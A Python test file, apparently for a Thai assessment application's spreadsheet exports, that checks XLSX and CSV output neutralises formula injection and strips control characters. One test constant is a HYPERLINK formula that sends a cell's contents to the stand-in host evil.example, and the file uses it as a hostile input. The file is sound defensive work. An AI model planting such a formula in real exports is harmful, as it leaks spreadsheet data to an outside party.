"""Every XLSX and CSV export writes text that starts with =, +, -, @ as text, never as a formula
(formula injection), and does not break on legacy rows holding control characters (openpyxl's
IllegalCharacterError). Round trips stay exact: the plan's XLSX imports back as written, a
framework exported and imported back is the same framework."""

from __future__ import annotations

import copy
import csv
import io
import uuid
from typing import Any

import pytest
from openpyxl import load_workbook

from prongsai.disclosures.exports import oit_table_csv, oit_table_xlsx
from prongsai.frameworks.models import Item
from prongsai.frameworks.xlsx import definition_to_xlsx, xlsx_to_definition
from prongsai.measures.exporting import plan_xlsx
from prongsai.measures.importing import parse_plan_file, plan_import
from prongsai.measures.models import PlanRow
from prongsai.surveys import exporting as survey_exports
from prongsai.surveys.models import Campaign, Response

from ..conftest import police_definition
from ..measures.helpers import make_row

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"คลิก")'
CONTROL = "ข้อความ\x1bที่มี\x07อักขระควบคุม"
TRIGGERS = ["=1+2", "+66 81 234 5678", "-ทบทวนขั้นตอน", "@SUM(A1:A2)"]


def _xlsx_cells(data: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _no_formulas(data: bytes) -> None:
    cells = _xlsx_cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]


def _csv_cells(data: bytes) -> list[str]:
    return [v for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for v in row]


def test_the_oit_export_writes_hostile_titles_as_text(assessment: Any) -> None:
    Item.objects.filter(framework=assessment.framework, code="O1").update(title_th=HOSTILE)
    Item.objects.filter(framework=assessment.framework, code="O2").update(title_th=CONTROL)
    data = oit_table_xlsx(assessment)
    _no_formulas(data)
    values = [c.value for c in _xlsx_cells(data)]
    assert HOSTILE in values and "ข้อความที่มีอักขระควบคุม" in values
    cells = _csv_cells(oit_table_csv(assessment))
    assert "'" + HOSTILE in cells and HOSTILE not in cells
    assert "ข้อความที่มีอักขระควบคุม" in cells


def test_the_plan_export_survives_legacy_rows_and_imports_back_as_written(
    assessment: Any,
) -> None:
    rows = [make_row(assessment, activity=text) for text in TRIGGERS]
    legacy = make_row(assessment)
    PlanRow.objects.filter(pk=legacy.pk).update(activity=CONTROL, result_note="-\n" + HOSTILE)
    before = [r.activity for r in rows]
    data = plan_xlsx(assessment)
    _no_formulas(data)
    result = parse_plan_file(assessment, data)
    assert result.ok, [str(p) for p in result.problems]
    assert [d.activity for d in result.drafts][: len(TRIGGERS)] == before
    assert result.drafts[-1].activity == "ข้อความที่มีอักขระควบคุม"
    assert result.drafts[-1].result_note == "-\n" + HOSTILE
    plan_import(actor="tests", assessment=assessment, result=result, replace=True)
    assert sorted(PlanRow.objects.values_list("activity", flat=True)) == sorted(
        [*before, "ข้อความที่มีอักขระควบคุม"]
    )


def test_the_survey_exports_escape_legacy_profile_values(assessment: Any) -> None:
    campaign = Campaign.objects.get(assessment=assessment, instrument="EIT")
    Response.objects.create(
        campaign=campaign,
        submission_id=uuid.uuid4(),
        submitted_on="2024-02-01",
        source="paper",
        answers={"e1": 4},
        profile={"p1": HOSTILE, "p2": CONTROL},
    )
    data = survey_exports.export_xlsx(campaign)
    _no_formulas(data)
    cells = _csv_cells(survey_exports.export_csv(campaign))
    assert "'" + HOSTILE in cells and "ข้อความที่มีอักขระควบคุม" in cells


@pytest.mark.parametrize("text", [*TRIGGERS, HOSTILE])
def test_a_framework_with_formula_like_text_round_trips(text: str) -> None:
    definition = copy.deepcopy(police_definition())
    definition["items"][0]["title"]["th"] = text
    definition["items"][1]["criteria"][0]["text"]["en"] = text
    data = definition_to_xlsx(definition)
    _no_formulas(data)
    again, problems = xlsx_to_definition(data)
    assert problems == []
    assert again == definition


def test_a_framework_with_control_characters_exports(db: None) -> None:
    definition = copy.deepcopy(police_definition())
    definition["items"][0]["title"]["th"] = CONTROL
    again, problems = xlsx_to_definition(definition_to_xlsx(definition))
    assert problems == [] and again is not None
    assert again["items"][0]["title"]["th"] == "ข้อความที่มีอักขระควบคุม"
